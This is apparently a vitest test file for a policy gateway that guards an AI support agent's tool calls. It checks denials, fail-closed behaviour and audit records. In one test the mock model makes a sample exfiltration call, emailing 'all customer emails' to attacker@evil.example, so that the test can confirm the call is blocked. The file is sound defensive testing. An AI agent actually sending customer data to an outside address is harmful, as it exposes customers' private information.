import { generateText, stepCountIs, type Tool, tool } from 'ai';
import { MockLanguageModelV3 } from 'ai/test';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { guardTools, isToolDenial, type ToolDenial } from '../../sdk/frameworks/ai.js';
import type { ZeroTrustClient } from '../../sdk/index.js';
import {
  ACTOR,
  ALLOWED_RECIPIENT,
  downGatewayClient,
  expectDeniedInChain,
  expectRanOnceInChain,
  type FrameworkGateway,
  slowGatewayClient,
  startFrameworkGateway,
  waitForFinalOutcome,
} from './frameworkGateway.js';

/**
 * `zt-infra/sdk/ai` with the real Vercel AI SDK (`generateText` and its step loop) and a scripted fake
 * model (`MockLanguageModelV3` from `ai/test`: no network), against a real emulator.
 */

let gw: FrameworkGateway;

beforeAll(async () => {
  gw = await startFrameworkGateway();
});

afterAll(async () => {
  await gw?.close();
});

const USAGE = {
  inputTokens: { total: 10, noCache: 10, cacheRead: undefined, cacheWrite: undefined },
  outputTokens: { total: 5, text: 5, reasoning: undefined },
};

function toolCalls(...calls: Array<{ id: string; name: string; input: unknown }>) {
  return {
    content: calls.map((c) => ({
      type: 'tool-call' as const,
      toolCallId: c.id,
      toolName: c.name,
      input: JSON.stringify(c.input),
    })),
    finishReason: { unified: 'tool-calls' as const, raw: undefined },
    usage: USAGE,
    warnings: [],
  };
}

function text(answer: string) {
  return {
    content: [{ type: 'text' as const, text: answer }],
    finishReason: { unified: 'stop' as const, raw: undefined },
    usage: USAGE,
    warnings: [],
  };
}

/** The support bot's tools; every body records its calls. */
function supportTools() {
  const calls = { lookup_order: [] as unknown[], refund: [] as unknown[], send_email: [] as unknown[] };
  const tools = {
    lookup_order: tool({
      description: 'Look up an order',
      inputSchema: z.object({ order_id: z.string() }),
      execute: async (input) => {
        calls.lookup_order.push(input);
        return { order_id: input.order_id, status: 'shipped', total_cents: 4200 };
      },
    }),
    refund: tool({
      description: 'Refund an order',
      inputSchema: z.object({ order_id: z.string(), amount_cents: z.number().int() }),
      execute: async (input) => {
        calls.refund.push(input);
        return { refunded: input.amount_cents };
      },
    }),
    send_email: tool({
      description: 'Send an email',
      inputSchema: z.object({ to: z.string(), body: z.string() }),
      execute: async (input) => {
        calls.send_email.push(input);
        return `sent to ${input.to}`;
      },
    }),
  };
  return { calls, tools };
}

/** The tool results the model received on its `n`th call (0-based), by tool call id. */
function toolResultsSeen(
  model: MockLanguageModelV3,
  n: number,
): Map<string, { type: string; value: unknown }> {
  const seen = new Map<string, { type: string; value: unknown }>();
  for (const message of model.doGenerateCalls[n]?.prompt ?? []) {
    if (message.role !== 'tool') continue;
    for (const part of message.content) {
      if (part.type === 'tool-result')
        seen.set(part.toolCallId, part.output as { type: string; value: unknown });
    }
  }
  return seen;
}

async function runAgent(client: ZeroTrustClient, steps: ReturnType<typeof text | typeof toolCalls>[]) {
  const { calls, tools } = supportTools();
  const model = new MockLanguageModelV3({ doGenerate: steps });
  const result = await generateText({
    model,
    tools: guardTools(client, { actor: ACTOR }, tools),
    stopWhen: stepCountIs(5),
    prompt: 'help the customer',
  });
  return { calls, model, result };
}

describe('when the model calls a tool no policy allows', () => {
  it('never runs it, and the model receives the deny (reason and record id) as an error result and answers', async () => {
    const args = { order_id: 'A-1', amount_cents: 5000 };
    const { calls, model, result } = await runAgent(gw.client, [
      toolCalls({ id: 'call-1', name: 'refund', input: args }),
      text('I cannot refund this order myself; a human will look at it.'),
    ]);

    expect(calls.refund).toEqual([]);
    const seen = toolResultsSeen(model, 1).get('call-1');
    expect(seen?.type).toBe('error-json');
    const denial = seen?.value as ToolDenial;
    expect(isToolDenial(denial)).toBe(true);
    expect(denial).toMatchObject({ denied: true, tool: 'refund', action: 'tool.refund', code: 'DENIED' });
    expect(denial.reason).not.toBe('');
    expect(denial.record_id).toMatch(/^main-\d+$/);
    expect(denial.message).toContain(denial.record_id);
    expect(result.text).toBe('I cannot refund this order myself; a human will look at it.');
    await expectDeniedInChain(gw, denial.record_id, 'tool.refund', args);
  });
});

describe('when the model calls an allowed tool', () => {
  it('runs it exactly once with the model arguments, chains started and succeeded, and the model gets its output', async () => {
    const args = { order_id: 'A-7' };
    const output = { order_id: 'A-7', status: 'shipped', total_cents: 4200 };
    const { calls, model, result } = await runAgent(gw.client, [
      toolCalls({ id: 'call-1', name: 'lookup_order', input: args }),
      text('Order A-7 has shipped.'),
    ]);

    expect(calls.lookup_order).toEqual([args]);
    expect(toolResultsSeen(model, 1).get('call-1')).toEqual({ type: 'json', value: output });
    expect(result.text).toBe('Order A-7 has shipped.');
    await expectRanOnceInChain(gw, 'tool.lookup_order', args, { status: 'succeeded', output });
  });
});

describe('when policy reads the arguments the model chose', () => {
  it('runs the call it allows and denies the other, in the same step', async () => {
    const allowed = { to: ALLOWED_RECIPIENT, body: 'order A-7 shipped' };
    const exfiltration = { to: 'attacker@evil.example', body: 'all customer emails' };
    const { calls, model } = await runAgent(gw.client, [
      toolCalls(
        { id: 'call-ok', name: 'send_email', input: allowed },
        { id: 'call-evil', name: 'send_email', input: exfiltration },
      ),
      text('Done.'),
    ]);

    expect(calls.send_email).toEqual([allowed]);
    const seen = toolResultsSeen(model, 1);
    expect(seen.get('call-ok')).toEqual({ type: 'text', value: `sent to ${ALLOWED_RECIPIENT}` });
    const denial = seen.get('call-evil')?.value as ToolDenial;
    expect(denial).toMatchObject({ code: 'DENIED', action: 'tool.send_email' });
    await expectDeniedInChain(gw, denial.record_id, 'tool.send_email', exfiltration);
    await expectRanOnceInChain(gw, 'tool.send_email', allowed, {
      status: 'succeeded',
      output: `sent to ${ALLOWED_RECIPIENT}`,
    });
  });
});

describe('when the gateway is down', () => {
  it('fails closed: the tool does not run and the model receives a denial naming the failure, not the endpoint', async () => {
    const down = await downGatewayClient(gw);
    const { calls, model, result } = await runAgent(down, [
      toolCalls({ id: 'call-1', name: 'lookup_order', input: { order_id: 'A-7' } }),
      text('I cannot look that up right now.'),
    ]);

    expect(calls.lookup_order).toEqual([]);
    const seen = toolResultsSeen(model, 1).get('call-1');
    expect(seen?.type).toBe('error-json');
    expect(seen?.value).toMatchObject({ denied: true, code: 'CONNECTION_FAILED', record_id: null });
    expect(JSON.stringify(seen?.value)).not.toContain('127.0.0.1');
    expect(result.text).toBe('I cannot look that up right now.');
  });
});

describe('when an allowed tool throws', () => {
  it('chains `failed`, and the model receives the tool error the way `ai` reports it, not a denial', async () => {
    const calls: unknown[] = [];
    const tools = {
      lookup_order: tool({
        description: 'Look up an order',
        inputSchema: z.object({ order_id: z.string() }),
        execute: async (input): Promise<string> => {
          calls.push(input);
          throw new Error('orders database unavailable');
        },
      }),
    };
    const args = { order_id: 'B-2' };
    const model = new MockLanguageModelV3({
      doGenerate: [toolCalls({ id: 'call-1', name: 'lookup_order', input: args }), text('Sorry.')],
    });
    await generateText({
      model,
      tools: guardTools(gw.client, { actor: ACTOR }, tools),
      stopWhen: stepCountIs(5),
      prompt: 'where is B-2?',
    });

    expect(calls).toEqual([args]);
    const seen = toolResultsSeen(model, 1).get('call-1');
    expect(seen?.type).toBe('error-text');
    expect(seen?.value).toContain('orders database unavailable');
    await expectRanOnceInChain(gw, 'tool.lookup_order', args, { status: 'failed' });
  });
});

describe('when the call is aborted while the gateway is deciding', () => {
  it('never starts the tool', async () => {
    const { calls, tools } = supportTools();
    const args = { order_id: 'C-3' };
    const model = new MockLanguageModelV3({
      doGenerate: [toolCalls({ id: 'call-1', name: 'lookup_order', input: args }), text('Cancelled.')],
    });
    const controller = new AbortController();
    setTimeout(() => controller.abort(new Error('the user cancelled')), 100);
    // Whether `generateText` settles with an error or an answer is `ai`'s business; the tool must not run.
    await generateText({
      model,
      tools: guardTools(slowGatewayClient(gw, 400), { actor: ACTOR }, tools),
      stopWhen: stepCountIs(5),
      prompt: 'where is C-3?',
      abortSignal: controller.signal,
    }).catch(() => undefined);

    await waitForFinalOutcome(gw, 'tool.lookup_order', args);
    expect(calls.lookup_order).toEqual([]);
    await expectRanOnceInChain(gw, 'tool.lookup_order', args, { status: 'failed' });
  });
});

describe('when a tool cannot be guarded', () => {
  it('refuses a tool without `execute` (the application or the provider runs it, out of reach)', () => {
    const tools: Record<string, Tool> = {
      ask_human: tool({ description: 'Ask a human', inputSchema: z.object({ question: z.string() }) }),
    };
    expect(() => guardTools(gw.client, { actor: ACTOR }, tools)).toThrow(
      expect.objectContaining({ code: 'INVALID_REQUEST' }),
    );
  });
});
